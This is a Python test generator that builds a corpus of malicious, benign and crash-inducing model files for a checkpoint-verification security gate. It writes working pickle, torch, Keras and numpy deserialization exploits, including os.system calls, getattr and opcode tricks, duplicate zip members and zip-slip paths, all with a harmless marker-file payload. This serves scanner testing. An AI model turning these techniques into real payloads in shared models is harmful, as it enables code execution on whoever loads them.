"""A regression corpus for ``ckptkit verify`` as a security gate: malicious files it must fail, benign
training checkpoints it must pass, and hostile structures it must survive, all built from code.

Malicious samples cover the callables of public pickle advisories and of the peer scanners'
deny-lists (picklescan's advisories ``GHSA-*``, modelscan's unsafe globals), each wrapped as a
real ``torch.save`` zip (the payload spliced into its ``data.pkl``), a legacy ``torch.save`` file
and a bare pickle; call chains, dotted spellings (protocol 4 walks attributes), every pickle
opcode that calls; torch zips whose members disagree; Keras models with code in their config;
numpy and joblib files with object arrays. Each payload would create the file ``PWNED`` beside
the sample if anything ran it. Benign samples are made by real torch, numpy, joblib and Keras.
Crash samples nest JSON, protobuf or pickles 100,000 levels deep.

    python tests/security/generate.py OUT          # write every sample to OUT/<name>/ and OUT/manifest.json
    python tests/security/generate.py --count      # run ckptkit verify, hash, inspect on each, print the tally

``--count`` runs ``python -m ckptkit`` in subprocesses, so ``PYTHONPATH`` picks the ckptkit
measured. This module imports no ckptkit: it can build the corpus for any version.
"""

from __future__ import annotations

import argparse
import base64
import collections
import contextlib
import datetime
import decimal
import functools
import io
import json
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tempfile
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np

REPO = Path(__file__).resolve().parents[2]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from tests.hostile.generate import W_DATA, W_OPS, Member, legacy_file, raw_zip  # noqa: E402

FIXTURES = REPO / "fixtures"
MARKER = "PWNED"

MALICIOUS, BENIGN, CRASH = "malicious", "benign", "crash"


@dataclass(frozen=True)
class Sample:
    """One file of the corpus. ``build(folder)`` returns its bytes (and may write side files)."""

    name: str
    filename: str
    kind: str  # MALICIOUS, BENIGN or CRASH
    build: Callable[[Path], bytes]
    about: str
    source: str = ""  # the advisory or scanner list the sample comes from
    pickle_scanner: bool = True  # whether a pickle scanner (picklescan) is meant to judge it

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.filename
        path.write_bytes(self.build(folder))
        return path


# --- Pickle opcodes ---------------------------------------------------------------------------------


def S(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def BYTES(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def I(n: int) -> bytes:  # noqa: E743
    return b"J" + struct.pack("<i", n)


N, TRUE, FALSE, EMPTY_DICT = b"N", b"\x88", b"\x89", b"}"


def L(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def T(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def G(module: str, name: str) -> bytes:
    """The global as protocol 4 writes it: two strings and STACK_GLOBAL (dotted names walk attributes)."""
    return S(module) + S(name) + b"\x93"


def CALL(fn: bytes, *args: bytes) -> bytes:
    return fn + T(*args) + b"R"


def proto4(value: bytes) -> bytes:
    return b"\x80\x04" + value + b"."


def _code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _cmd(marker: str) -> str:
    return f"touch {marker}"


def evil_pickle(marker: str) -> bytes:
    """A complete pickle that runs os.system, for the nested-pickle payloads."""
    return proto4(CALL(G("os", "system"), S(_cmd(marker))))


# --- Payloads: (module, name, arguments) of each advisory class --------------------------------------

Args = Callable[[str], list[bytes]]


class Call(NamedTuple):
    module: str
    name: str
    args: Args
    source: str


def _c(m: str) -> list[bytes]:
    return [S(_code(m))]


def _self_c(m: str) -> list[bytes]:
    return [EMPTY_DICT, S(_code(m))]


def _sh(m: str) -> list[bytes]:
    return [S(_cmd(m))]


PS = "picklescan"
# fmt: off
CALLS: list[Call] = [
    Call("os", "system", _sh, "modelscan CRITICAL, picklescan"),
    Call("posix", "system", _sh, "picklescan"),
    Call("nt", "system", _sh, "picklescan"),
    Call("os", "popen", _sh, "modelscan CRITICAL"),
    Call("subprocess", "Popen", lambda m: [L(S("touch"), S(m))], "modelscan CRITICAL"),
    Call("subprocess", "run", lambda m: [L(S("touch"), S(m))], "picklescan malicious8"),
    Call("subprocess", "check_output", _sh, "modelscan CRITICAL"),
    Call("builtins", "eval", lambda m: [S(f"__import__('os').system({_cmd(m)!r})")], "picklescan malicious1"),
    Call("builtins", "exec", _c, "picklescan"),
    Call("__builtin__", "exec", _c, "picklescan (protocol 0-2 name)"),
    Call("__builtin__", "apply", lambda m: [G("os", "system"), L(S(_cmd(m)))], "picklescan malicious0"),
    Call("runpy", "_run_code", lambda m: [S(_code(m)), EMPTY_DICT], "picklescan malicious14"),
    Call("runpy", "run_path", lambda m: [S(m + ".py")], "modelscan CRITICAL"),
    Call("bdb", "Bdb.run", _self_c, "picklescan malicious15"),
    Call("pdb", "run", _c, "picklescan"),
    Call("pip", "main", lambda m: [L(S("install"), S(m))], "picklescan malicious16"),
    Call("torch._inductor.codecache", "compile_file", lambda m: [S(""), S(""), L(S("sh"), S("-c"), S(_cmd(m)))],
         "picklescan malicious17"),
    Call("pydoc", "pipepager", lambda m: [S(""), S(_cmd(m))], "picklescan malicious18"),
    Call("venv", "create", lambda m: [S(m + ".venv"), FALSE, FALSE, TRUE, FALSE, S(f"$({_cmd(m)})")],
         "picklescan malicious20"),
    Call("timeit", "timeit", lambda m: [S(""), S(_code(m))], "picklescan malicious21"),
    Call("numpy.testing._private.utils", "runstring", lambda m: [S(_code(m)), EMPTY_DICT], "picklescan malicious22"),
    Call("torch.utils.bottleneck.__main__", "run_cprofile", lambda m: [S(_code(m)), EMPTY_DICT], "GHSA-4r9r-ch6f-vxmx"),
    Call("torch._dynamo.guards", "GuardBuilder.get", _self_c, "GHSA-86cj-95qr-2p4f"),
    Call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
         lambda m: [EMPTY_DICT, S(_code(m)), L()], "GHSA-f4x7-rfwp-v3xw"),
    Call("torch.utils.collect_env", "run", _sh, "GHSA-f745-w6jp-hpxx"),
    Call("torch.utils.collect_env", "run_and_read_all", lambda m: [G("torch.utils.collect_env", "run"), S(_cmd(m))],
         "GHSA-jhph-76pp-mggw"),
    Call("torch.utils.data.datapipes.utils.decoder", "basichandlers",
         lambda m: [S("pickle"), BYTES(evil_pickle(m))], "GHSA-h3qp-7fh3-f8h4"),
    Call("torch.jit.unsupported_tensor_ops", "execWrapper", lambda m: [S(_code(m)), EMPTY_DICT, EMPTY_DICT],
         "GHSA-vr7h-p6mm-wpmh"),
    Call("torch.utils._config_module", "ConfigModule.load_config", lambda m: [EMPTY_DICT, BYTES(evil_pickle(m))],
         "GHSA-vv6j-3g6g-2pvj"),
    Call("trace", "Trace.run", _self_c, "GHSA-5qwp-399c-mjwf"),
    Call("trace", "Trace.runctx", lambda m: [EMPTY_DICT, S(_code(m)), EMPTY_DICT, EMPTY_DICT], "GHSA-g344-hcph-8vgg"),
    Call("profile", "Profile.run", _self_c, "GHSA-x696-vm39-cp64"),
    Call("profile", "Profile.runctx", lambda m: [EMPTY_DICT, S(_code(m)), EMPTY_DICT, EMPTY_DICT],
         "GHSA-6vqj-c2q5-j97w"),
    Call("lib2to3.pgen2.grammar", "Grammar.loads", lambda m: [EMPTY_DICT, BYTES(evil_pickle(m))],
         "GHSA-f54q-57x4-jg88"),
    Call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", lambda m: [N, EMPTY_DICT, S('""+' + _code(m))],
         "GHSA-p9w7-82w4-7q8m"),
    Call("idlelib.debugobj", "ObjectTreeItem.SetText", _self_c, "GHSA-3vg9-h568-4w9m"),
    Call("idlelib.autocomplete", "AutoComplete.get_entity", _self_c, "GHSA-6w4w-5w54-rjvr"),
    Call("idlelib.autocomplete", "AutoComplete.fetch_completions", lambda m: [EMPTY_DICT, S(_code(m)), I(1)],
         "GHSA-7cq8-mj8x-j263"),
    Call("code", "InteractiveInterpreter.runcode", _self_c, "GHSA-cj3c-v495-4xqh"),
    Call("idlelib.calltip", "Calltip.fetch_tip", _self_c, "GHSA-8r4j-24qv-fmq9"),
    Call("idlelib.calltip", "get_entity", _c, "GHSA-9xph-j2h6-g47v"),
    Call("torch.utils.bottleneck.__main__", "run_autograd_prof", lambda m: [S(_code(m)), EMPTY_DICT],
         "GHSA-4whj-rm5r-c2v8"),
    Call("ensurepip", "_run_pip", lambda m: [L(S("install"), S(m))], "GHSA-xp4f-hrf8-rxw7"),
    Call("idlelib.run", "Executive.runcode", _self_c, "GHSA-m869-42cg-3xwr"),
    Call("idlelib.pyshell", "ModifiedInterpreter.runcommand", _self_c, "GHSA-j343-8v2j-ff7w"),
    Call("idlelib.pyshell", "ModifiedInterpreter.runcode", _self_c, "GHSA-3gf5-cxq9-w223"),
    Call("doctest", "debug_script", lambda m: [S(_code(m)), TRUE], "GHSA-fqq6-7vqf-w3fg"),
    Call("cProfile", "runctx", lambda m: [S(_code(m)), N, N], "GHSA-9w88-8rmg-7g2p"),
    Call("cProfile", "run", _c, "GHSA-49gj-c84q-6qm9"),
    Call("asyncio.unix_events", "_UnixSubprocessTransport._start",
         lambda m: [EMPTY_DICT, S(_cmd(m)), TRUE, N, N, N, I(0)], "GHSA-q77w-mwjj-7mqx"),
    Call("distutils.file_util", "write_file", lambda m: [S(m), L(S("x"))], "GHSA-m273-6v24-x4m4"),
    Call("ctypes", "CDLL", lambda m: [N], "GHSA-4675-36f9-wf6r"),
    Call("pty", "spawn", lambda m: [L(S("/bin/sh"), S("-c"), S(_cmd(m)))], "GHSA-vqmv-47xg-9wpr"),
    Call("numpy.f2py.crackfortran", "getlincoef", lambda m: [S(_code(m)), L()], "GHSA-r8g5-cgf2-4m4m"),
    Call("io", "FileIO", lambda m: [S(m), S("w")], "picklescan io_FileIO"),
    Call("_io", "FileIO", lambda m: [S(m), S("w")], "picklescan io_FileIO"),
    Call("urllib.request", "urlopen", lambda m: [S("http://127.0.0.1:9/")], "picklescan"),
    Call("ssl", "get_server_certificate", lambda m: [T(S("127.0.0.1"), I(9))], "picklescan dns_exfiltration"),
    Call("socket", "create_connection", lambda m: [T(S("127.0.0.1"), I(9))], "picklescan malicious7"),
    Call("http.client", "HTTPSConnection", lambda m: [S("127.0.0.1")], "picklescan malicious3"),
    Call("requests.api", "get", lambda m: [S("http://127.0.0.1:9/")], "modelscan HIGH, picklescan malicious4"),
    Call("aiohttp.client", "ClientSession", lambda m: [], "modelscan HIGH, picklescan malicious5"),
    Call("webbrowser", "open", lambda m: [S("file://" + m)], "modelscan HIGH"),
    Call("sys", "exit", lambda m: [I(0)], "picklescan malicious9"),
    Call("pickle", "loads", lambda m: [BYTES(evil_pickle(m))], "picklescan malicious13"),
    Call("_pickle", "loads", lambda m: [BYTES(evil_pickle(m))], "picklescan malicious13b"),
    Call("shutil", "copyfile", lambda m: [S("/etc/hostname"), S(m)], "picklescan"),
    Call("imaplib", "IMAP4_stream", _sh, "picklescan"),
    Call("_pyrepl.pager", "pipe_pager", lambda m: [S(""), S(_cmd(m))], "picklescan"),
    Call("_osx_support", "_read_output", _sh, "picklescan"),
    Call("_aix_support", "_read_cmd_output", _sh, "picklescan"),
    Call("uuid", "_get_command_stdout", lambda m: [S("sh"), S("-c"), S(_cmd(m))], "picklescan"),
    Call("logging", "FileHandler", lambda m: [S(m)], "picklescan"),
    Call("logging.handlers", "RotatingFileHandler", lambda m: [S(m)], "like logging.FileHandler"),
    Call("marshal", "loads", lambda m: [BYTES(b"\xe3")], "fickling"),
    Call("torch", "load", lambda m: [S(m)], "picklescan malicious19"),
    Call("torch.serialization", "load", lambda m: [S(m)], "picklescan"),
    Call("torch.hub", "load", lambda m: [S("someone/repo"), S("model")], "torch hub loads remote code"),
    Call("torch.storage", "_load_from_bytes", lambda m: [BYTES(evil_pickle(m))], "nested torch.load"),
    Call("numpy", "load", lambda m: [S(m)], "picklescan TODO list"),
    Call("numpy.lib._npyio_impl", "load", lambda m: [S(m)], "numpy.load where numpy 2 defines it"),
    Call("joblib", "load", lambda m: [S(m)], "picklescan TODO list"),
    Call("pandas", "read_pickle", lambda m: [S(m)], "picklescan TODO list"),
    Call("shelve", "open", lambda m: [S(m)], "unpickles nested data"),
    Call("dill", "loads", lambda m: [BYTES(evil_pickle(m))], "unpickles nested data"),
    Call("cloudpickle", "loads", lambda m: [BYTES(evil_pickle(m))], "unpickles nested data"),
    Call("platform", "popen", _sh, "Python 2 era payloads"),
    Call("commands", "getoutput", _sh, "Python 2 era payloads"),
    Call("smtplib", "SMTP", lambda m: [S("127.0.0.1"), I(9)], "talks to the network"),
    Call("ftplib", "FTP", lambda m: [S("127.0.0.1")], "talks to the network"),
    Call("xmlrpc.client", "ServerProxy", lambda m: [S("http://127.0.0.1:9/")], "calls remote servers"),
    Call("tempfile", "mkstemp", lambda m: [S(""), S(""), S(str(Path(m).parent))], "creates files"),
    Call("importlib", "import_module", lambda m: [S("antigravity")], "imports any module"),
    Call("antigravity", "geohash", lambda m: [I(0), I(0), BYTES(b"x")], "opens a browser when imported"),
    Call("keras.models", "load_model", lambda m: [S(m)], "loads a model, which can run its code"),
    Call("mypackage.train", "Callback", lambda m: [S(_cmd(m))], "an unknown class called: not a data constructor"),
]

# Dotted spellings: protocol 4 resolves the name by walking attributes from the module.
DOTTED: list[Call] = [
    Call("pathlib", "os.system", _sh, "issue: pathlib.os.system"),
    Call("glob", "os.system", _sh, "issue: glob.os.system"),
    Call("shutil", "os.system", _sh, "os reached through shutil"),
    Call("tempfile", "_os.system", _sh, "os imported as _os"),
    Call("random", "_os.system", _sh, "os imported as _os"),
    Call("uuid", "os.system", _sh, "os reached through uuid"),
    Call("torch", "serialization.load", lambda m: [S(m)], "issue: torch.serialization.load"),
    Call("torch", "hub.load", lambda m: [S("someone/repo"), S("model")], "issue: torch.hub.load"),
    Call("numpy", "lib._npyio_impl.load", lambda m: [S(m)], "issue: numpy.lib._npyio_impl.load"),
    Call("numpy", "testing._private.utils.runstring", lambda m: [S(_code(m)), EMPTY_DICT], "runstring, dotted"),
    Call("collections", "OrderedDict.__init__.__globals__", lambda m: [], "a dunder walk to a module's globals"),
]
# fmt: on


def _call_ops(c: Call) -> Callable[[str], bytes]:
    return lambda m: CALL(G(c.module, c.name), *c.args(m))


def _slug(text: str) -> str:
    return "".join(ch if ch.isalnum() or ch == "_" else "-" for ch in text).lower()


# Call chains and the other opcodes that call.
def _chains() -> dict[str, tuple[Callable[[str], bytes], str]]:
    def imp(mod: str) -> bytes:
        return CALL(G("builtins", "__import__"), S(mod))

    def getattr_(obj: bytes, attr: str) -> bytes:
        return CALL(G("builtins", "getattr"), obj, S(attr))

    # fmt: off
    return {
        "getattr_import": (lambda m: CALL(getattr_(imp("os"), "system"), S(_cmd(m))), "issue: builtins.getattr chains"),
        "getattr_through_path": (
            lambda m: CALL(getattr_(getattr_(getattr_(imp("os"), "path"), "os"), "system"), S(_cmd(m))),
            "getattr chain through os.path.os",
        ),
        "attrgetter_import": (
            lambda m: CALL(CALL(CALL(G("operator", "attrgetter"), S("system")), imp("os")), S(_cmd(m))),
            "picklescan malicious12",
        ),
        "methodcaller_locate": (
            lambda m: CALL(CALL(G("operator", "methodcaller"), S("system"), S(_cmd(m))),
                           CALL(G("pydoc", "locate"), S("os"))),
            "GHSA-84r2-jw7c-4r5q",
        ),
        "operator_call_locate": (
            lambda m: CALL(G("operator", "call"), CALL(G("pydoc", "locate"), S("os.system")), S(_cmd(m))),
            "issue: operator.call(pydoc.locate('os.system'))",
        ),
        "_operator_attrgetter": (
            lambda m: CALL(CALL(CALL(G("_operator", "attrgetter"), S("system")), imp("os")), S(_cmd(m))),
            "picklescan _operator",
        ),
        "pkgutil_resolve_name": (
            lambda m: CALL(CALL(G("pkgutil", "resolve_name"), S("os:system")), S(_cmd(m))), "picklescan pkgutil"
        ),
        "functools_partial": (
            lambda m: CALL(CALL(G("functools", "partial"), G("os", "system"), S(_cmd(m)))), "picklescan functools"
        ),
        "functionType_marshal": (
            lambda m: CALL(CALL(G("types", "FunctionType"), CALL(G("marshal", "loads"), BYTES(b"\xe3")), EMPTY_DICT)),
            "code object from marshal, called",
        ),
        "compile_eval": (
            lambda m: CALL(G("builtins", "eval"), CALL(G("builtins", "compile"), S(_code(m)), S(""), S("exec"))),
            "picklescan malicious0 style",
        ),
        "memo_stack_global": (
            # "os" and "system" put in the memo between decoy strings, fetched back for STACK_GLOBAL.
            lambda m: b"".join(S(t) + b"r" + struct.pack("<I", 100_001 + i) + b"0"
                               for i, t in enumerate(("torch", "os", "LongStorage", "system")))
            + b"j" + struct.pack("<I", 100_002) + b"j" + struct.pack("<I", 100_004) + b"\x93" + T(S(_cmd(m))) + b"R",
            "picklescan malicious11",
        ),
        "stack_global_from_string": (
            lambda m: b"S'os'\nS'system'\n\x93" + T(S(_cmd(m))) + b"R", "GHSA-9gvj-pp9x-gcfr"
        ),
        "inst_opcode": (lambda m: b"(" + S(_code(m)) + b"i__builtin__\nexec\n", "picklescan malicious10"),
        "obj_opcode": (lambda m: b"(" + G("os", "system") + S(_cmd(m)) + b"o", "the OBJ opcode"),
        "newobj_ex_kwargs": (
            lambda m: G("subprocess", "Popen") + T(L(S("touch"), S(m))) + b"}" + S("shell") + FALSE + b"s\x92",
            "NEWOBJ_EX with keyword arguments",
        ),
        "reconstructor_base": (
            lambda m: CALL(G("copyreg", "_reconstructor"), G("mypackage", "Thing"), G("mypackage", "Runner"),
                           S(_cmd(m))),
            "copyreg._reconstructor calling an unknown base class",
        ),
        "rebuild_from_type": (
            lambda m: CALL(G("torch._tensor", "_rebuild_from_type_v2"), G("os", "system"), G("torch", "Tensor"),
                           T(S(_cmd(m))), EMPTY_DICT),
            "torch's _rebuild_from_type_v2 handed os.system",
        ),
        "nested_pickle_loads": (lambda m: CALL(G("pickle", "loads"), BYTES(evil_pickle(m))), "nested pickle"),
        "unknown_called_result": (
            lambda m: CALL(CALL(G("mypackage", "factory"), S("runner")), S(_cmd(m))), "calls what an unknown call made"
        ),
    }
    # fmt: on


# --- Wrappers: a real torch zip, a legacy file, a bare pickle ----------------------------------------


def _spliced(raw_pickle: bytes, key: str, value: bytes) -> bytes:
    """``raw_pickle`` (a dict pickle) gaining ``key``: ``value``, declared protocol 4 so dotted names resolve."""
    assert raw_pickle[:1] == b"\x80" and raw_pickle.endswith(b".")
    return b"\x80\x04" + raw_pickle[2:-1] + S(key) + value + b"s."


def real_torch_zip(value: bytes, base: Path = FIXTURES / "mlp_fp32.pt") -> bytes:
    """The real torch.save file ``base`` whose data.pkl holds one more key, the payload."""
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = _spliced(data, "payload", value)
            dst.writestr(info.filename, data)
    return out.getvalue()


def real_legacy(value: bytes, base: Path = FIXTURES / "mlp_fp32_legacy.pt") -> bytes:
    """The real legacy torch.save file ``base`` whose main (fourth) pickle holds the payload."""
    import pickletools

    raw = base.read_bytes()
    stream = io.BytesIO(raw)
    for _ in range(4):
        start = stream.tell()
        for _op in pickletools.genops(stream):
            pass
    end = stream.tell()
    return raw[:start] + _spliced(raw[start:end], "payload", value) + raw[end:]


def bare_pickle(value: bytes) -> bytes:
    return proto4(b"}" + S("weights") + BYTES(W_DATA) + b"s" + b"}" + S("x") + value + b"s" + b"\x86")


def _wrapped(name: str, ops: Callable[[str], bytes], about: str, source: str) -> list[Sample]:
    def marker(folder: Path) -> str:
        return str(folder / MARKER)

    return [
        Sample(f"{name}.zip", "model.pt", MALICIOUS, lambda f: real_torch_zip(ops(marker(f))), about, source),
        Sample(f"{name}.legacy", "model.pt", MALICIOUS, lambda f: real_legacy(ops(marker(f))), about, source),
        Sample(f"{name}.pkl", "model.pkl", MALICIOUS, lambda f: bare_pickle(ops(marker(f))), about, source),
    ]


def payload_samples() -> list[Sample]:
    out: list[Sample] = []
    for c in CALLS:
        out += _wrapped(f"call_{_slug(c.module + '.' + c.name)}", _call_ops(c), f"calls {c.module}.{c.name}", c.source)
    for c in DOTTED:
        ops = (lambda g: lambda m: g)(G(c.module, c.name)) if c.name.endswith("__globals__") else _call_ops(c)
        out += _wrapped(f"dotted_{_slug(c.module + '.' + c.name)}", ops, f"{c.module} + {c.name}", c.source)
    for name, (ops, source) in _chains().items():
        out += _wrapped(f"chain_{name}", ops, name.replace("_", " "), source)
    return out


# --- Archives whose members disagree -----------------------------------------------------------------


def _members_of(base: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(base) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _evil_data_pkl(marker: str) -> bytes:
    return b"\x80\x02}(" + S("w") + W_OPS + S("x") + CALL(G("os", "system"), S(_cmd(marker))) + b"u."


def member_samples() -> list[Sample]:
    def dup(evil_first: bool) -> Callable[[Path], bytes]:
        def build(folder: Path) -> bytes:
            members = _members_of(FIXTURES / "mlp_fp32.pt")
            root = members[0][0].split("/")[0]
            good = next(d for n, d in members if n.endswith("/data.pkl"))
            evil = Member(f"{root}/data.pkl", _evil_data_pkl(str(folder / MARKER)))
            rest = [Member(n, d) for n, d in members if not n.endswith("/data.pkl")]
            pair = [evil, Member(f"{root}/data.pkl", good)]
            return raw_zip((pair if evil_first else pair[::-1]) + rest)

        return build

    def second_root(folder: Path) -> bytes:
        evil = _evil_data_pkl(str(folder / MARKER))
        return raw_zip([Member("archive/data.pkl", _benign_state()), Member("archive/data/0", W_DATA),
                        Member("archive/version", b"3\n"), Member("other/data.pkl", evil),
                        Member("other/version", b"3\n")])  # fmt: skip

    def extra_pickle(folder: Path) -> bytes:
        evil = proto4(CALL(G("os", "system"), S(_cmd(str(folder / MARKER)))))
        return raw_zip([Member("archive/data.pkl", _benign_state()), Member("archive/data/0", W_DATA),
                        Member("archive/version", b"3\n"), Member("archive/extra.pkl", evil)])  # fmt: skip

    def two_pickles(folder: Path) -> bytes:
        return pickle.dumps(["a", "b"], protocol=2) + proto4(CALL(G("os", "system"), S(_cmd(str(folder / MARKER)))))

    def legacy_magic(folder: Path) -> bytes:
        # The magic-number pickle itself is the payload (picklescan's "magic number bypass").
        data = legacy_file(_benign_state())
        first = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        return proto4(CALL(G("builtins", "eval"), S(f"__import__('os').system({_cmd(str(folder / MARKER))!r}) or "
                                                     "0x1950A86A20F9469CFC6C"))) + data[len(first) :]  # fmt: skip

    return [
        Sample("zip_duplicate_data_pkl_evil_first", "model.pt", MALICIOUS, dup(True),
               "two archive/data.pkl members, the first malicious", "issue: duplicate members"),
        Sample("zip_duplicate_data_pkl_evil_last", "model.pt", MALICIOUS, dup(False),
               "two archive/data.pkl members, the last malicious", "issue: duplicate members"),
        Sample("zip_second_root_folder", "model.pt", MALICIOUS, second_root,
               "a benign archive/ and a malicious other/data.pkl", "issue: a second root folder"),
        Sample("zip_extra_pickle_member", "model.pt", MALICIOUS, extra_pickle,
               "archive/extra.pkl beside a benign data.pkl", "issue: extra pickles in a torch zip"),
        Sample("pkl_second_pickle_in_file", "model.pkl", MALICIOUS, two_pickles,
               "a benign pickle followed by a malicious one", "picklescan malicious6"),
        Sample("legacy_magic_number_payload", "model.pt", MALICIOUS, legacy_magic,
               "a legacy file whose magic-number pickle runs eval", "picklescan magic number bypass"),
    ]  # fmt: skip


def _benign_state() -> bytes:
    return b"\x80\x02}(" + S("w") + W_OPS + b"u."


# --- Keras ----------------------------------------------------------------------------------------------


def _keras() -> Any:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    return keras


def _keras_file(suffix: str, lambda_layer: bool) -> Callable[[Path], bytes]:
    return lambda folder: _keras_bytes(suffix, lambda_layer)


@functools.cache
def _keras_bytes(suffix: str, lambda_layer: bool) -> bytes:
    keras = _keras()
    keras.utils.set_random_seed(0)
    layers: list[Any] = [keras.Input((3,)), keras.layers.Dense(4)]
    if lambda_layer:
        # Run by Keras (safe_mode=False), the lambda would create the marker in the working folder.
        layers.append(keras.layers.Lambda(lambda x: (open(MARKER, "w").close(), x)[1]))
    layers.append(keras.layers.Dense(2))
    with tempfile.TemporaryDirectory() as tmp, contextlib.chdir(tmp):
        # Keras calls the lambda once while it builds the model: its marker lands in this folder.
        model = keras.Sequential(layers)
        path = Path(tmp) / f"m{suffix}"
        model.save_weights(path) if suffix == ".weights.h5" else model.save(path)
        return path.read_bytes()


def _keras_config_edit(edit: Callable[[dict[str, Any], str], None], extra: list[Member] | None = None,
                       ) -> Callable[[Path], bytes]:  # fmt: skip
    """A real .keras archive whose config.json ``edit`` changes (members re-zipped as Keras stores them)."""

    def build(folder: Path) -> bytes:
        raw = _keras_file(".keras", False)(folder)
        with zipfile.ZipFile(io.BytesIO(raw)) as zf:
            members = [Member(i.filename, zf.read(i)) for i in zf.infolist()]
        for m in members:
            if m.name == "config.json":
                config = json.loads(m.payload)
                edit(config, str(folder / MARKER))
                m.payload = json.dumps(config).encode()
        return raw_zip(members + (extra or []))

    return build


def _set_activation(value: Any) -> Callable[[dict[str, Any], str], None]:
    def edit(config: dict[str, Any], marker: str) -> None:
        config["config"]["layers"][1]["config"]["activation"] = value(marker) if callable(value) else value

    return edit


def _legacy_lambda_h5(folder: Path) -> bytes:
    """A legacy .h5 whose model_config describes a Keras 2 (tf.keras) Lambda with marshalled bytecode."""
    import h5py

    raw = _keras_file(".h5", False)(folder)
    code = base64.b64encode(b"\xe3" + bytes(40)).decode()
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.h5"
        path.write_bytes(raw)
        with h5py.File(path, "r+") as h5:
            config = json.loads(h5.attrs["model_config"])
            config["config"]["layers"].insert(2, {"class_name": "Lambda", "config": {
                "name": "lambda", "trainable": True, "function": [code, None, None], "function_type": "lambda",
                "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {},
            }})  # fmt: skip
            h5.attrs["model_config"] = json.dumps(config)
        return path.read_bytes()


def keras_samples() -> list[Sample]:
    return [
        Sample("keras_lambda.keras", "model.keras", MALICIOUS, _keras_file(".keras", True),
               "a Lambda layer saved as bytecode in config.json", "issue; modelscan KerasLambdaDetectScan", False),
        Sample("keras_lambda.h5", "model.h5", MALICIOUS, _keras_file(".h5", True),
               "a Lambda layer saved as bytecode in a legacy .h5", "issue; modelscan H5LambdaDetectScan", False),
        Sample("keras2_lambda.h5", "model.h5", MALICIOUS, _legacy_lambda_h5,
               "a Keras 2 Lambda (function_type lambda) in model_config", "CVE-2025-9905", False),
        Sample("keras_module_os.keras", "model.keras", MALICIOUS,
               _keras_config_edit(_set_activation({"module": "os", "class_name": "function", "config": "system",
                                                   "registered_name": "system"})),
               "an activation function from module os", "CVE-2025-1550", False),
        Sample("keras_module_custom.keras", "model.keras", MALICIOUS,
               _keras_config_edit(_set_activation({"module": "subprocess", "class_name": "Popen", "config": {},
                                                   "registered_name": None})),
               "a layer argument built from subprocess.Popen", "CVE-2025-1550", False),
        Sample("keras_get_file.keras", "model.keras", MALICIOUS,
               _keras_config_edit(_set_activation({"module": "keras.utils", "class_name": "function",
                                                   "config": "get_file", "registered_name": None})),
               "keras.utils.get_file named in config.json", "CVE-2025-8747", False),
        Sample("keras_enable_unsafe.keras", "model.keras", MALICIOUS,
               _keras_config_edit(_set_activation({"module": "keras.config", "class_name": "function",
                                                   "config": "enable_unsafe_deserialization",
                                                   "registered_name": None})),
               "keras.config.enable_unsafe_deserialization named in config.json", "CVE-2025-9906", False),
        Sample("keras_member_dotdot.keras", "model.keras", MALICIOUS,
               _keras_config_edit(lambda c, m: None, [Member("../../evil.py", b"import os")]),
               "an archive member named ../../evil.py", "zip slip", False),
        Sample("keras_member_absolute.keras", "model.keras", MALICIOUS,
               _keras_config_edit(lambda c, m: None, [Member("/tmp/evil.py", b"import os")]),
               "an archive member named /tmp/evil.py", "zip slip", False),
    ]  # fmt: skip


# --- numpy and joblib ------------------------------------------------------------------------------------


class _Runs:
    """Pickles as a call of ``fn(*args)``; pickling it runs nothing."""

    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args


def _np_bytes(write: Callable[[Any], None]) -> bytes:
    out = io.BytesIO()
    write(out)
    return out.getvalue()


def _joblib_bytes(value: Any, compress: int = 0) -> bytes:
    import joblib

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.joblib"
        joblib.dump(value, path, compress=compress)
        return path.read_bytes()


def numpy_samples() -> list[Sample]:
    def evil(folder: Path) -> Any:
        return np.array([_Runs(os.system, _cmd(str(folder / MARKER)))], dtype=object)

    return [
        Sample("npy_object_array_os_system", "array.npy", MALICIOUS,
               lambda f: _np_bytes(lambda o: np.save(o, evil(f), allow_pickle=True)),
               "np.save of an object array whose item runs os.system", "picklescan object_array.npy"),
        Sample("npz_object_array_os_system", "arrays.npz", MALICIOUS,
               lambda f: _np_bytes(lambda o: np.savez(o, w=np.ones(3), x=evil(f))),
               "np.savez with an object array beside a numeric one", "picklescan object_arrays.npz"),
        Sample("npz_compressed_object_array", "arrays.npz", MALICIOUS,
               lambda f: _np_bytes(lambda o: np.savez_compressed(o, x=evil(f))),
               "np.savez_compressed with an object array", "picklescan object_arrays_compressed.npz"),
        Sample("joblib_object_array_os_system", "model.joblib", MALICIOUS,
               lambda f: _joblib_bytes({"coef": np.ones(3), "x": evil(f)}),
               "joblib.dump with an object array whose item runs os.system", "joblib nested pickle"),
        Sample("joblib_compressed_os_system", "model.joblib", MALICIOUS,
               lambda f: _joblib_bytes({"coef": np.ones(3), "x": _Runs(os.system, _cmd(str(f / MARKER)))}, 3),
               "a zlib-compressed joblib file running os.system", "joblib compress=3"),
    ]  # fmt: skip


